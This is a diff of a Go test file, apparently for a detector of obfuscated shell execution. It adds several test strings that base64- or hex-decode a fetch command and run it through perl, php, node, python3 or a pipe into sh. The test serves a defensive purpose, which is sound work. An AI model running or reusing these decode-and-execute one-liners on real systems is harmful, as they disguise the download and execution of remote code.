@@ -73,6 +73,11 @@ func TestDecoded(t *testing.T) {
 		"python3 -c \"exec(bytes.fromhex('" + hex.EncodeToString([]byte("import os;os.system('"+fetch+"')")) + "'))\"",
 		"python3 -c \"import os;os.system('" + fetch + "')\"",
 		"perl -MMIME::Base64 -e 'system(decode_base64(\"" + b64(fetch) + "\"))'",
+		"perl -MMIME::Base64 -e 'exec(decode_base64(\"" + b64(fetch) + "\"))'",
+		"php -r 'system(base64_decode(\"" + b64(fetch) + "\"));'",
+		"node -e 'require(\"child_process\").execSync(Buffer.from(\"" + b64(fetch) + "\",\"base64\").toString())'",
+		"source /dev/stdin <<< \"$(base64 -d <<< " + b64(fetch) + ")\"",
+		"echo " + b64(fetch) + " | base64 -d | tee /var/log/x | sh",
 		"perl -e 'system(pack(\"H*\",\"" + h + "\"))'",
 		"echo " + b64("import os; os.system('"+fetch+"')") + " | base64 -d | python3",
 		"if true; then echo " + b64(fetch) + " | base64 -d | sh", // no shell parses it
